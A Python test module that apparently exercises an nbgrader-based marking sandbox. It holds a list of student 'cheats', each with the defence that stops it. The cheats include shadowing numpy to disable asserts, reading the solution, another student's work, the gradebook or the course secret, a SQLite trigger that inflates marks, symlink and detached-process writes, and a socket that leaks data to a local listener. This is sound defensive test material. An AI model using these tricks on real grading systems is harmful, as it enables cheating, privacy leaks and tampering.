"""Cheats by files and cells: beside the notebook, in it, and elsewhere on the marker's machine."""

from __future__ import annotations

import nbformat

from .cheat import NAME, WRONG, Cheat, Submission, answer, both, cell, file

OWN_FOLDER = "the kernel's folder is empty: of a submission only the notebook's cells are taken"
NOT_THERE = "the sandbox does not show the course, its gradebook, other students or the marker's process"
REBUILT = "test cells are written anew from the gradebook, tags and metadata with them"


def _tag(submission: Submission) -> None:
    for each in submission.notebook.cells:
        if each.metadata.get("nbgrader", {}).get("grade"):
            each.metadata["tags"] = ["skip-execution"]
    submission.write()


def _edit(submission: Submission) -> None:
    for each in submission.notebook.cells:
        if each.metadata.get("nbgrader", {}).get("grade"):
            each.source = "1.0"
    submission.write()


def _delete_tests(submission: Submission) -> None:
    cells = submission.notebook.cells
    submission.notebook.cells = [c for c in cells if not c.metadata.get("nbgrader", {}).get("grade")]
    submission.write()


def _right(submission: Submission) -> None:
    source = nbformat.read(submission.course / "solutions" / NAME / f"{NAME}.ipynb", as_version=4)
    for each in source.cells:
        if each.metadata.get("nbgrader", {}).get("grade_id") == "softmax":
            submission.find("softmax").source = each.source
    submission.write()


def _link(submission: Submission) -> None:
    submission.file.unlink()
    submission.file.symlink_to(submission.course / "solutions" / NAME / f"{NAME}.ipynb")


CHEATS = [
    Cheat("skip-tag", "the tag skip-execution on the test cells", REBUILT, _tag),
    Cheat(
        "edited-tests",
        "test cells that say how many points they are worth",
        REBUILT,
        _edit,
        works_on="our checks in the kernel, test cells as they come",
    ),
    Cheat(
        "deleted-tests",
        "a second submission without test cells keeps the points of the first",
        "deleted test cells are put back",
        _delete_tests,
        first=_right,
    ),
    Cheat(
        "numpy-beside",
        "a file numpy.py beside the notebook, which is imported instead (or torch.py, json.py)",
        OWN_FOLDER,
        file(
            "numpy.py",
            """
import importlib, os, sys
here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [each for each in sys.path if os.path.abspath(each or ".") != here]
del sys.modules["numpy"]
real = importlib.import_module("numpy")
real.testing.assert_allclose = lambda *args, **options: None
sys.modules["numpy"] = real
""",
        ),
    ),
    Cheat(
        "course-lib-beside",
        "a folder course_lib beside the notebook, whose checks are always content",
        OWN_FOLDER,
        both(
            file("course_lib/__init__.py", ""),
            file(
                "course_lib/checks/__init__.py",
                """
class Check:
    def __call__(self, function, behaviour): return 1.0
    collect = __call__
def checks_for(assignment): return Check()
""",
            ),
        ),
        works_on="our checks in the kernel",
    ),
    Cheat(
        "linked-notebook",
        "the submitted notebook is a symbolic link to the solution",
        "symbolic links are refused",
        _link,
    ),
    Cheat(
        "solution",
        "the notebook runs the answer cells of the instructor's solution",
        NOT_THERE,
        answer(
            f"""
{WRONG}
import json
for each in json.load(open(COURSE + "/solutions/{NAME}/{NAME}.ipynb"))["cells"]:
    if each["metadata"].get("nbgrader", {{}}).get("solution"):
        exec("".join(each["source"]))
"""
        ),
    ),
    Cheat(
        "neighbour",
        "the notebook runs the answer of another student",
        NOT_THERE,
        answer(
            f"""
{WRONG}
import json
for each in json.load(open(COURSE + "/submitted/0-honest/{NAME}/{NAME}.ipynb"))["cells"]:
    if each["metadata"].get("nbgrader", {{}}).get("grade_id") == "softmax":
        exec("".join(each["source"]))
"""
        ),
    ),
    Cheat(
        "read-gradebook",
        "the notebook prints what the gradebook says of other students",
        NOT_THERE,
        cell(
            """
import sqlite3
base = sqlite3.connect("file:" + COURSE + "/gradebook.db?mode=ro", uri=True)
print(base.execute("SELECT * FROM student").fetchall())
"""
        ),
        goal="leak",
    ),
    Cheat(
        "write-gradebook",
        "the notebook plants a trigger in the gradebook that raises each of its marks",
        NOT_THERE,
        cell(
            """
import sqlite3
with sqlite3.connect(COURSE + "/gradebook.db") as base:
    for event in ("INSERT ON", "UPDATE OF auto_score ON"):
        base.execute(
            f"CREATE TRIGGER cheat_{event[:6]} AFTER {event} grade WHEN NEW.auto_score < 2 "
            "AND (SELECT s.student_id FROM submitted_notebook n "
            "JOIN submitted_assignment s ON n.assignment_id = s.id "
            "WHERE n.id = NEW.notebook_id) = 'write-gradebook' "
            "BEGIN UPDATE grade SET auto_score = 2 WHERE id = NEW.id; END"
        )
base.close()
"""
        ),
    ),
    Cheat(
        "read-secret",
        "the notebook prints the course secret, on which all hidden inputs depend",
        NOT_THERE,
        cell('print(open(COURSE + "/.course_secret").read())'),
        works_on="our marking without a sandbox",
        goal="leak",
    ),
    Cheat(
        "read-through-parent",
        "the notebook looks at the marker's files through /proc/PARENT/cwd, knowing no path",
        NOT_THERE,
        cell('import os\nprint(open(f"/proc/{os.getppid()}/cwd/.course_secret").read())'),
        works_on="our marking without a sandbox",
        goal="leak",
    ),
    Cheat(
        "write-outside",
        "the notebook writes into a file of the instructor's",
        "the sandbox shows nothing but an interpreter, and that read-only",
        cell('open(COURSE + "/victims/write-outside", "w").write("changed")'),
        goal="harm",
    ),
    Cheat(
        "linked-by-itself",
        "the notebook puts a link in its own place, so that nbgrader writes elsewhere",
        OWN_FOLDER,
        cell(
            f"""
import os
os.remove("{NAME}.ipynb")
os.symlink(COURSE + "/victims/linked-by-itself", "{NAME}.ipynb")
"""
        ),
        goal="harm",
    ),
    Cheat(
        "outlives-its-kernel",
        "a process that goes on when its kernel has ended, and writes later",
        "all processes of a sandbox end with it",
        cell(
            """
import subprocess, sys
victim = COURSE + "/victims/outlives-its-kernel"
later = f"import time; time.sleep(3); open({victim!r}, 'w').write('changed')"
subprocess.Popen([sys.executable, "-c", later], start_new_session=True)
"""
        ),
        goal="harm",
    ),
    Cheat(
        "loopback",
        "the notebook sends what it knows to somebody who listens on the marker's machine",
        "the sandbox has no network",
        cell(
            """
import socket
with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
    connection.sendall(b"loopback")
"""
        ),
        goal="harm",
    ),
]
